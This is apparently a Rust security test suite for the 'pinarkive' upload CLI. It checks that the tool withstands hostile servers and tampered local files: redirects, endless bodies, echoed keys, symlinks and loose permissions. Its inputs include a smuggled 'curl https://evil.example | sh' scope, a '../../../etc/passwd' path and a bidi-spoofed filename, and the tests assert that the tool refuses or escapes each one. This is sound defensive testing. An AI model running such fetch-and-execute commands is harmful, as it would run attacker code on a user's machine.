//! The binary against servers, files and a machine that cannot be trusted: redirects, endless
//! bodies, echoed keys, a tampered config file, files that change while they are sent, pages
//! that never end. Scripted servers on loopback; a second one is the other origin.

use std::sync::Arc;
use std::time::{Duration, Instant};

use serde_json::json;

use crate::leak::{encoded, leak, nasty_key, FORMS};
use crate::scripted::{fake_cid, Gate, Reply, ScriptedServer};
use crate::support::{child_cmd, run, Run, Setup, CID, KEY};

fn json_reply(status: u16, body: serde_json::Value) -> Reply {
    Reply::json(status, body)
}

#[test]
fn a_redirect_to_another_origin_is_refused_and_nothing_reaches_it() {
    let setup = Setup::new();
    let file = setup.file("a.txt", b"a");
    let other = setup.scripted_every(json_reply(200, json!({"email": "a@example.com", "cid": CID})));
    let location = format!("{}/api/v3/collect?key=stolen", other.url);
    let origin = setup.scripted_every(Reply::Respond(302, vec![("location", location)], String::new()));
    for args in [vec!["whoami"], vec!["upload", &file], vec!["rm", CID], vec!["ls", "--all"]] {
        let out = run(setup.cmd_for(&origin), &args).expect_code(1);
        let expected = format!("a redirect to {}/api/v3/collect; redirects are not followed", other.url);
        assert!(out.stderr.contains(&expected), "{args:?}: {}", out.stderr);
        assert!(!out.stderr.contains("stolen"), "{}", out.stderr);
    }
    assert_eq!(other.connection_count(), 0, "the other origin was contacted");
    assert_eq!(origin.request_count(), 4, "one request per command");
}

/// Runs the binary to its end, and measures its peak resident memory (KiB) and how many bytes
/// it wrote to stdout (of which the run keeps the first 64 KiB).
///
/// `wait4` gives a child's peak, but Linux counts in it the memory of the process that started
/// it as it was when the child was started (the peak survives `exec`), and this test process
/// is large. So the binary is started by a fresh, small copy of this test binary running
/// [`rss_probe`], which reports what `wait4` says.
#[cfg(target_os = "linux")]
fn run_measured(setup: &Setup, server: &ScriptedServer, args: &[&str]) -> (Run, u64, usize) {
    let probe = std::process::Command::new(std::env::current_exe().unwrap())
        .args(["--exact", "hostile::rss_probe", "--ignored", "--nocapture", "--test-threads=1"])
        .env("RSS_PROBE_HOME", setup.home.path())
        .env("RSS_PROBE_URL", format!("{}/api/v3", server.url))
        .env("RSS_PROBE_ARGS", args.join("\n"))
        .output()
        .unwrap();
    let report = String::from_utf8_lossy(&output_of(&probe)).into_owned();
    let field = |name: &str| -> String {
        report
            .lines()
            .find_map(|line| line.strip_prefix(name))
            .unwrap_or_else(|| panic!("no {name} in:\n{report}"))
            .to_string()
    };
    let decode = |hex: String| String::from_utf8(hex_decode(&hex)).unwrap();
    let run = Run {
        code: field("probe-code ").parse().unwrap(),
        stdout: decode(field("probe-stdout ")),
        stderr: decode(field("probe-stderr ")),
    };
    (run, field("probe-maxrss-kib ").parse().unwrap(), field("probe-stdout-bytes ").parse().unwrap())
}

#[cfg(target_os = "linux")]
fn output_of(probe: &std::process::Output) -> Vec<u8> {
    assert!(
        probe.status.success(),
        "the probe failed:\n{}\n{}",
        String::from_utf8_lossy(&probe.stdout),
        String::from_utf8_lossy(&probe.stderr)
    );
    probe.stdout.clone()
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

fn hex_decode(text: &str) -> Vec<u8> {
    (0..text.len()).step_by(2).map(|i| u8::from_str_radix(&text[i..i + 2], 16).unwrap()).collect()
}

/// Not a test: the small process [`run_measured`] starts the binary from. It runs the binary
/// the environment describes, reaps it with `wait4`, and prints its exit code, output and peak
/// resident memory.
#[cfg(target_os = "linux")]
#[test]
#[ignore = "a helper that run_measured starts in a process of its own"]
#[allow(
    clippy::zombie_processes,
    reason = "the child is reaped with wait4, which also gives its peak memory"
)]
fn rss_probe() {
    let (Ok(home), Ok(url), Ok(args)) =
        (std::env::var("RSS_PROBE_HOME"), std::env::var("RSS_PROBE_URL"), std::env::var("RSS_PROBE_ARGS"))
    else {
        return;
    };
    let child = child_cmd(std::path::Path::new(&home), &url).args(args.split('\n')).spawn().unwrap();
    let pid = child.id() as libc::pid_t;
    let (mut stdout, mut stderr) = (child.stdout.unwrap(), child.stderr.unwrap());
    // Counted, and kept up to 64 KiB: a long listing would take long to pass on as hex.
    let out = std::thread::spawn(move || {
        let mut kept = Vec::new();
        let mut buffer = vec![0u8; 64 * 1024];
        let mut count = 0;
        loop {
            let n = std::io::Read::read(&mut stdout, &mut buffer).unwrap();
            if n == 0 {
                return (kept, count);
            }
            count += n;
            kept.extend_from_slice(&buffer[..n.min(64 * 1024 - kept.len().min(64 * 1024))]);
        }
    });
    let mut err_text = Vec::new();
    std::io::Read::read_to_end(&mut stderr, &mut err_text).unwrap();
    let (mut status, mut usage) = (0, unsafe { std::mem::zeroed::<libc::rusage>() });
    // SAFETY: the child's pid and valid pointers; the child is reaped here.
    assert_eq!(unsafe { libc::wait4(pid, &mut status, 0, &mut usage) }, pid);
    let code = if libc::WIFEXITED(status) { libc::WEXITSTATUS(status) } else { -1 };
    // After the harness's "test ... " on the same line.
    println!();
    println!("probe-code {code}");
    let (kept, count) = out.join().unwrap();
    println!("probe-stdout {}", hex(&kept));
    println!("probe-stdout-bytes {count}");
    println!("probe-stderr {}", hex(&err_text));
    println!("probe-maxrss-kib {}", usage.ru_maxrss);
}

#[cfg(target_os = "linux")]
#[test]
fn an_endless_body_is_cut_off_under_64_mib_of_memory_and_not_retried() {
    let setup = Setup::new();
    let json = vec![("content-type", "application/json".into())];
    let endless = setup.scripted_every(Reply::Endless(200, json.clone()));
    let started = Instant::now();
    let (out, peak_kib, _) = run_measured(&setup, &endless, &["whoami"]);
    let out = out.expect_code(1);
    assert!(
        out.stderr.contains("is larger than 16,777,216 bytes, the most this client reads"),
        "{}",
        out.stderr
    );
    eprintln!("pinarkive whoami against an endless body: peak RSS {} KiB, {:?}", peak_kib, started.elapsed());
    assert!(peak_kib < 64 * 1024, "peak RSS {peak_kib} KiB");
    assert_eq!(endless.connection_count(), 1, "the endless body was asked for again");

    // An endless 401 is still a refused key.
    let refused = setup.scripted_every(Reply::Endless(401, json));
    let (out, _, _) = run_measured(&setup, &refused, &["whoami"]);
    out.expect_code(3);
}

#[test]
fn a_401_with_an_html_body_exits_3() {
    let setup = Setup::new();
    let html = Reply::Respond(401, vec![("content-type", "text/html".into())], "<h1>Login</h1>".into());
    let server = setup.scripted(vec![html]);
    let out = run(setup.cmd_for(&server), &["whoami"]).expect_code(3);
    assert!(
        out.stderr.starts_with("error: the API refused the request (undecodable response (HTTP 401"),
        "{}",
        out.stderr
    );
}

#[test]
fn an_invalid_cid_in_an_answer_is_not_printed_as_a_result() {
    let setup = Setup::new();
    let file = setup.file("a.txt", b"a");
    let server = setup.scripted(vec![json_reply(201, json!({"cid": "../../../etc/passwd"}))]);
    let out = run(setup.cmd_for(&server), &["upload", &file]).expect_code(1);
    assert_eq!(out.stdout, "");
    assert!(
        out.stderr.contains("field `cid` holds `../../../etc/passwd`, which is not a valid CID"),
        "{}",
        out.stderr
    );
}

#[test]
fn bidi_and_invisible_characters_in_names_are_escaped() {
    let setup = Setup::new();
    let name = "invoice\u{202E}fdp.exe\u{200B}";
    let page = json!({"uploads": [{"cid": CID, "name": name}]});
    let server = setup.scripted(vec![json_reply(200, page.clone()), json_reply(200, page)]);
    let table = run(setup.cmd_for(&server), &["ls"]).ok();
    assert!(table.stdout.contains("invoice\u{FFFD}fdp.exe\u{FFFD}"), "{}", table.stdout);
    let listed = run(setup.cmd_for(&server), &["ls", "--json"]).ok();
    assert!(listed.stdout.contains(r"invoice\u202efdp.exe\u200b"), "{}", listed.stdout);
    assert_eq!(listed.json()["uploads"][0]["name"], name, "the JSON keeps the name intact");
    for out in [&table, &listed] {
        assert!(!out.stdout.contains('\u{202E}') && !out.stdout.contains('\u{200B}'));
    }
}

/// The key, with what breaks naive redaction, echoed by the server around the point where an
/// error's excerpt is cut, raw and escaped: no piece of it reaches stdout or stderr.
#[test]
fn an_echoed_key_around_the_cut_never_reaches_the_terminal() {
    let setup = Setup::new();
    let key = "pk_\"q\\uo%te_é-0123456789abcdef";
    for offset in [0, 70, 76, 80] {
        for form in [0, 1, 2] {
            let echo = format!("{}{}", "x".repeat(offset), encoded(key, form));
            let replies = vec![
                Reply::Respond(502, vec![("content-type", "text/html".into())], format!("{echo} after")),
                json_reply(401, json!({"error": "Unauthorized", "message": echo})),
                json_reply(200, json!({"uploads": [{"cid": CID, "name": echo}]})),
            ];
            let server = setup.scripted(replies);
            for args in [vec!["--retries", "0", "whoami"], vec!["whoami"], vec!["ls"]] {
                let mut cmd = setup.cmd_for(&server);
                cmd.env("PINARKIVE_API_KEY", key);
                let out = run(cmd, &args);
                for text in [&out.stdout, &out.stderr] {
                    assert_eq!(leak(text, key), None, "offset {offset}, form {form}, {args:?}:\n{text}");
                }
            }
        }
    }
}

proptest::proptest! {
    #![proptest_config(proptest::test_runner::Config { cases: 32, ..proptest::test_runner::Config::default() })]

    /// Any nasty key, in any form, at any offset of an error's body or message, or of a name
    /// listed: no piece of it reaches stdout or stderr.
    #[test]
    fn an_echoed_key_never_reaches_the_terminal(
        key in nasty_key(),
        form in 0..FORMS,
        before in "[ -~]{0,100}",
        reply in 0..3usize,
    ) {
        let setup = Setup::new();
        let echo = format!("{before}{}", encoded(&key, form));
        let (reply, command) = match reply {
            0 => (Reply::Respond(502, vec![], echo), "whoami"),
            1 => (json_reply(403, json!({"error": "Forbidden", "message": echo})), "whoami"),
            _ => (json_reply(200, json!({"uploads": [{"cid": CID, "name": echo}]})), "ls"),
        };
        let server = setup.scripted(vec![reply]);
        let mut cmd = setup.cmd_for(&server);
        cmd.env("PINARKIVE_API_KEY", &key);
        let out = run(cmd, &["--retries", "0", command]);
        for text in [&out.stdout, &out.stderr] {
            proptest::prop_assert_eq!(leak(text, &key), None, "{}", text);
        }
    }
}

fn config_dir(setup: &Setup) -> std::path::PathBuf {
    setup.config_path().parent().unwrap().to_path_buf()
}

#[cfg(unix)]
fn chmod(path: &std::path::Path, mode: u32) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
}

#[cfg(unix)]
#[test]
fn a_planted_symlink_never_redirects_what_login_writes() {
    let setup = Setup::new();
    let dir = config_dir(&setup);
    std::fs::create_dir_all(&dir).unwrap();
    chmod(&dir, 0o700);
    let victim = setup.home.path().join("victim.txt");
    std::fs::write(&victim, "precious").unwrap();
    // The temporary name an earlier version used, and the config file itself.
    std::os::unix::fs::symlink(&victim, dir.join(".config.json.tmp")).unwrap();
    let mut login = setup.bare_cmd();
    login.write_stdin(KEY);
    run(login, &["login"]).ok();
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious");
    assert_eq!(setup.read_config(), json!({"apiKey": KEY}));
    assert_eq!(crate::support::mode(&setup.config_path()), 0o600);

    std::fs::remove_file(setup.config_path()).unwrap();
    std::fs::write(&victim, "{}").unwrap();
    chmod(&victim, 0o600);
    std::os::unix::fs::symlink(&victim, setup.config_path()).unwrap();
    let mut login = setup.bare_cmd();
    login.write_stdin(KEY);
    run(login, &["login"]).ok();
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "{}", "the link's target was written");
    assert!(!std::fs::symlink_metadata(setup.config_path()).unwrap().file_type().is_symlink());
    assert_eq!(setup.read_config(), json!({"apiKey": KEY}));
}

#[cfg(unix)]
#[test]
fn a_config_others_can_change_is_refused_and_one_they_can_read_is_warned_about() {
    let setup = Setup::new();
    setup.write_config(json!({"apiKey": KEY, "baseUrl": setup.base_url()}));
    let path = setup.config_path().display().to_string();
    let dir = config_dir(&setup);

    chmod(&setup.config_path(), 0o644);
    let out = run(setup.bare_cmd(), &["whoami"]).ok();
    assert!(out.stderr.starts_with(&format!("warning: {path} holds the API key and can be read by other users (mode 0644); run `chmod 600 {path}`")), "{}", out.stderr);

    chmod(&setup.config_path(), 0o666);
    let out = run(setup.bare_cmd(), &["whoami"]).expect_code(2);
    assert!(
        out.stderr.contains(&format!("error: {path} can be changed by other users (mode 0666)")),
        "{}",
        out.stderr
    );

    chmod(&setup.config_path(), 0o600);
    chmod(&dir, 0o777);
    for args in [vec!["whoami"], vec!["login", "--api-key", KEY]] {
        let out = run(setup.bare_cmd(), &args).expect_code(2);
        assert!(
            out.stderr.contains(&format!("{} can be changed by other users (mode 0777)", dir.display())),
            "{}",
            out.stderr
        );
        assert!(out.stderr.contains(&format!("chmod 700 {}", dir.display())), "{}", out.stderr);
    }
    chmod(&dir, 0o700);
    run(setup.bare_cmd(), &["whoami"]).ok();
}

#[cfg(unix)]
#[test]
fn a_config_owned_by_another_user_is_refused() {
    use std::os::unix::fs::MetadataExt;
    let setup = Setup::new();
    setup.write_config(json!({"apiKey": KEY}));
    if std::fs::metadata(setup.home.path()).unwrap().uid() != 0 {
        eprintln!("SKIPPED: only root can give a file to another user");
        return;
    }
    std::os::unix::fs::chown(setup.config_path(), Some(12345), None).unwrap();
    let out = run(setup.bare_cmd(), &["whoami"]).expect_code(2);
    assert!(out.stderr.contains("belongs to another user (uid 12345)"), "{}", out.stderr);
}

#[cfg(unix)]
#[test]
fn a_fifo_or_a_huge_file_as_config_is_refused_at_once() {
    let setup = Setup::new();
    let dir = config_dir(&setup);
    std::fs::create_dir_all(&dir).unwrap();
    chmod(&dir, 0o700);
    let name = std::ffi::CString::new(setup.config_path().as_os_str().as_encoded_bytes()).unwrap();
    // SAFETY: a valid NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(name.as_ptr(), 0o600) }, 0);
    let started = Instant::now();
    let mut cmd = setup.cmd();
    cmd.timeout(Duration::from_secs(20));
    let out = run(cmd, &["whoami"]).expect_code(2);
    assert!(out.stderr.contains("is not a regular file (it is a FIFO)"), "{}", out.stderr);
    assert!(started.elapsed() < Duration::from_secs(10));

    std::fs::remove_file(setup.config_path()).unwrap();
    let huge = format!("{{\"apiKey\": \"{KEY}\", \"pad\": \"{}\"}}", "x".repeat(2 * 1024 * 1024));
    std::fs::write(setup.config_path(), huge).unwrap();
    chmod(&setup.config_path(), 0o600);
    let out = run(setup.cmd(), &["whoami"]).expect_code(2);
    assert!(out.stderr.contains("is larger than 1 MiB"), "{}", out.stderr);
    assert!(out.stderr.contains(&setup.config_path().display().to_string()), "{}", out.stderr);
}

/// Starts `pinarkive upload FILE` against a server that stops reading after 64 KiB, runs
/// `change` on the file meanwhile, and returns how the run ended and the server.
fn upload_changed_midway(setup: &Setup, file: &str, change: impl FnOnce()) -> (Run, ScriptedServer) {
    let gate = Arc::new(Gate::default());
    let created = json_reply(201, json!({"cid": CID}));
    let server =
        setup.scripted(vec![Reply::Gated(64 * 1024, gate.clone(), Box::new(created.clone())), created]);
    let child = setup.child_cmd(&format!("{}/api/v3", server.url)).args(["upload", file]).spawn().unwrap();
    setup.block_on(gate.reached.notified());
    std::thread::sleep(Duration::from_millis(100));
    change();
    gate.open.notify_one();
    let output = child.wait_with_output().unwrap();
    let run = Run {
        code: output.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
    };
    (run, server)
}

#[test]
fn a_file_that_shrinks_or_grows_while_it_is_uploaded_exits_2_after_one_attempt() {
    let setup = Setup::new();
    let size = 32 * 1024 * 1024;
    let path = setup.home.path().join("video.bin");
    let resize = |to: u64| std::fs::OpenOptions::new().write(true).open(&path).unwrap().set_len(to).unwrap();
    for (to, says) in [(1024, "read; nothing was uploaded"), (size + 4096, "more read; nothing was uploaded")]
    {
        std::fs::File::create(&path).unwrap().set_len(size).unwrap();
        let (out, server) = upload_changed_midway(&setup, "video.bin", || resize(to));
        let out = out.expect_code(2);
        assert!(
            out.stderr.starts_with("error: video.bin: changed while uploading: 33,554,432 bytes expected, "),
            "{}",
            out.stderr
        );
        assert!(out.stderr.contains(says), "{}", out.stderr);
        assert_eq!(server.connection_count(), 1, "a local fault was retried");
    }
}

#[cfg(target_os = "linux")]
#[test]
fn a_file_that_fails_to_read_exits_2_naming_it() {
    let setup = Setup::new();
    let server = setup.scripted(vec![json_reply(201, json!({"cid": CID})); 4]);
    let out = run(setup.cmd_for(&server), &["upload", "/proc/self/mem"]).expect_code(2);
    assert!(
        out.stderr.starts_with("error: /proc/self/mem: reading it failed after 0 bytes"),
        "{}",
        out.stderr
    );
    assert!(server.connection_count() <= 1);
}

fn page_number(request: &crate::scripted::Request) -> u64 {
    request.query("page").and_then(|p| p.parse().ok()).unwrap_or(1)
}

fn page(first: u64, size: u64, total: Option<u64>) -> serde_json::Value {
    let uploads: Vec<_> =
        (first..first + size).map(|i| json!({"cid": fake_cid(i), "id": format!("id-{i}")})).collect();
    match total {
        Some(total) => json!({"uploads": uploads, "total": total}),
        None => json!({"uploads": uploads}),
    }
}

#[test]
fn ls_all_and_rename_stop_on_a_server_whose_pages_loop() {
    let setup = Setup::new();
    let alternating = setup.scripted_every(Reply::answer(|request| {
        let first = if page_number(request) % 2 == 1 { 0 } else { 1000 };
        Reply::json(200, page(first, 100, None))
    }));
    let out = run(setup.cmd_for(&alternating), &["ls", "--all"]).expect_code(1);
    assert!(
        out.stderr.starts_with("error: the server's paging is inconsistent: page 3 repeats an earlier page"),
        "{}",
        out.stderr
    );
    // Printed as they came: the two pages before the repeat are shown.
    assert_eq!(out.stdout.lines().count(), 1 + 200, "{}", out.stdout);
    assert!(out.stdout.contains(&fake_cid(0)) && out.stdout.contains(&fake_cid(1099)), "{}", out.stdout);
    assert!(out.stderr.ends_with("; list one page at a time with --page\n"), "{}", out.stderr);
    let out = run(setup.cmd_for(&alternating), &["rename", CID, "new-name"]).expect_code(1);
    assert!(out.stderr.contains("page 3 repeats an earlier page"), "{}", out.stderr);
    assert!(out.stderr.contains("; pass the upload's id with --id"), "{}", out.stderr);
    assert!(!out.stderr.contains("--page\n"), "{}", out.stderr);
    assert_eq!(alternating.request_count(), 6);
}

#[test]
fn ls_all_stops_on_a_server_that_inflates_its_total() {
    let setup = Setup::new();
    let growing = setup.scripted_every(Reply::answer(|request| {
        let number = page_number(request);
        Reply::json(200, page(number * 1000, 100, Some((number + 2) * 100)))
    }));
    let out = run(setup.cmd_for(&growing), &["ls", "--all"]).expect_code(1);
    assert!(
        out.stderr.contains("page 6 is full, but the first page's total allows only 5 pages"),
        "{}",
        out.stderr
    );
    assert_eq!(growing.request_count(), 6);
}

#[test]
fn ls_all_stops_after_1000_pages_of_a_server_with_fresh_pages_under_a_huge_total() {
    let setup = Setup::new();
    // Made before the run, so that the server answers at once.
    let pages: Arc<Vec<String>> =
        Arc::new((1..=1000).map(|n| page(n * 1000, 100, Some(1_000_000_000_000)).to_string()).collect());
    let endless = setup.scripted_every(Reply::answer(move |request| {
        let body = pages[(page_number(request) as usize).clamp(1, 1000) - 1].clone();
        Reply::Respond(200, vec![("content-type", "application/json".into())], body)
    }));
    let started = Instant::now();
    let out = run(setup.cmd_for(&endless), &["ls", "--all"]).expect_code(1);
    assert!(out.stderr.contains("1000 pages received and still no end (100000 uploads)"), "{}", out.stderr);
    assert_eq!(endless.request_count(), 1000);
    eprintln!("ls --all stopped after 1000 pages in {:?}", started.elapsed());
}

/// A proxy from the environment is never used for a loopback base URL: it would see the key of
/// a plain-http request. The variables are set on the child only, so no other test sees them.
#[test]
fn a_proxy_from_the_environment_never_sees_a_loopback_request() {
    let setup = Setup::new();
    let me = json_reply(200, json!({"email": "a@example.com"}));
    let origin = setup.scripted_every(me.clone());
    let proxy = setup.scripted_every(me);
    for variable in ["HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy"] {
        let mut cmd = setup.cmd_for(&origin);
        for name in ["HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy", "NO_PROXY", "no_proxy"] {
            cmd.env_remove(name);
        }
        cmd.env(variable, &proxy.url);
        let out = run(cmd, &["whoami"]).ok();
        assert!(out.stdout.contains("a@example.com"), "{}", out.stdout);
    }
    assert_eq!(proxy.connection_count(), 0, "the proxy was sent a request");
    assert_eq!(origin.request_count(), 4);
}

/// `ls --all` prints each page as it comes: 15 MB of listing, in pages of 1 MB, never held.
#[cfg(target_os = "linux")]
#[test]
fn ls_all_holds_one_page_at_a_time() {
    let setup = Setup::new();
    const PAGES: u64 = 15;
    let name = "n".repeat(10_000);
    let server = setup.scripted_every(Reply::answer(move |request| {
        let number = page_number(request);
        let size = if number < PAGES { 100 } else { 1 };
        let uploads: Vec<_> =
            (0..size).map(|i| json!({"cid": fake_cid(number * 1000 + i), "name": name})).collect();
        Reply::json(200, json!({"uploads": uploads}))
    }));
    for args in [vec!["ls", "--all"], vec!["ls", "--all", "--json"]] {
        let started = Instant::now();
        let (out, peak_kib, printed) = run_measured(&setup, &server, &args);
        out.ok();
        eprintln!("{args:?}: {printed} bytes printed, peak RSS {peak_kib} KiB, {:?}", started.elapsed());
        assert!(printed > 14 * 1_000_000, "{printed} bytes printed");
        assert!(peak_kib < 40 * 1024, "peak RSS {peak_kib} KiB");
    }
}

/// A scope the server names goes into a command to copy only when it is one the tool knows.
#[test]
fn a_scope_named_by_the_server_is_put_in_a_command_only_when_it_is_known() {
    let setup = Setup::new();
    let required = |scope: &str| {
        json_reply(403, json!({"error": "Forbidden", "code": "missing_scope", "required": scope}))
    };
    let hostile = "files:write; curl https://evil.example | sh";
    let server = setup.scripted(vec![required("files:write"), required(hostile)]);
    let known = run(setup.cmd_for(&server), &["whoami"]).expect_code(3);
    assert!(known.stderr.contains("pinarkive tokens create NAME --scope files:write\n"), "{}", known.stderr);
    let unknown = run(setup.cmd_for(&server), &["whoami"]).expect_code(3);
    assert!(!unknown.stderr.contains("tokens create"), "{}", unknown.stderr);
    assert!(
        unknown.stderr.contains(&format!("which the API names {hostile:?}, a scope this tool does not know")),
        "{}",
        unknown.stderr
    );
}

/// A new key that starts as the old one does is shown whole; the old key, wherever the server
/// puts it, is not.
#[test]
fn tokens_create_shows_a_new_key_sharing_pieces_with_the_old_one_whole() {
    let setup = Setup::new();
    let new_key = format!("{}ffffffffffffffff", &KEY[..12]);
    let created = |token: &str| {
        json_reply(201, json!({"token": token, "name": format!("ci {KEY}"), "scopes": ["files:read"]}))
    };
    let server = setup.scripted(vec![created(&new_key), created(&new_key), created(KEY), created(KEY)]);
    for json in [false, true] {
        let mut args = vec!["tokens", "create", "ci", "--scope", "files:read"];
        if json {
            args.push("--json");
        }
        let out = run(setup.cmd_for(&server), &args).ok();
        assert!(out.stdout.contains(&new_key), "{}", out.stdout);
        assert_eq!(leak(&out.stdout.replace(&new_key, ""), KEY), None, "{}", out.stdout);
    }
    for args in [vec!["tokens", "create", "ci"], vec!["tokens", "create", "ci", "--json"]] {
        let out = run(setup.cmd_for(&server), &args).ok();
        assert_eq!(leak(&out.stdout, KEY), None, "{}", out.stdout);
    }
}

/// `login` reads at most 64 KiB of standard input: a key is some dozens of bytes.
#[test]
fn login_refuses_a_standard_input_too_long_to_be_a_key() {
    let setup = Setup::new();
    let mut login = setup.bare_cmd();
    login.write_stdin("a".repeat(100 * 1024));
    let out = run(login, &["login", "--stdin"]).expect_code(2);
    assert_eq!(
        out.stderr,
        "error: standard input is longer than 64 KiB, so it is no API key; give the key alone\n"
    );
    assert!(!setup.config_path().exists());
    #[cfg(unix)]
    {
        let mut endless = setup.child_cmd(setup.base_url());
        let zero = std::fs::File::open("/dev/zero").unwrap();
        let mut child =
            endless.env_remove("PINARKIVE_API_KEY").stdin(zero).args(["login", "--stdin"]).spawn().unwrap();
        let started = Instant::now();
        let status = loop {
            if let Some(status) = child.try_wait().unwrap() {
                break status;
            }
            if started.elapsed() > Duration::from_secs(20) {
                child.kill().unwrap();
                panic!("login kept reading /dev/zero");
            }
            std::thread::sleep(Duration::from_millis(20));
        };
        assert_eq!(status.code(), Some(2));
    }
}

/// Not only the config file's directory: one above it that others can change (without the
/// sticky bit) could have the config's directory replaced.
#[cfg(unix)]
#[test]
fn a_home_others_can_change_is_refused_unless_sticky() {
    let setup = Setup::new();
    setup.write_config(json!({"apiKey": KEY, "baseUrl": setup.base_url()}));
    let home = setup.home.path();
    chmod(home, 0o777);
    for args in [vec!["whoami"], vec!["login", "--api-key", KEY]] {
        let out = run(setup.bare_cmd(), &args).expect_code(2);
        let expected = format!("error: {} can be changed by other users (mode 0777), who could replace the config file's directory in it; check it, then run `chmod go-w {}`\n", home.display(), home.display());
        assert_eq!(out.stderr, expected);
    }
    chmod(home, 0o1777);
    run(setup.bare_cmd(), &["whoami"]).ok();
    chmod(home, 0o700);
    run(setup.bare_cmd(), &["whoami"]).ok();
}
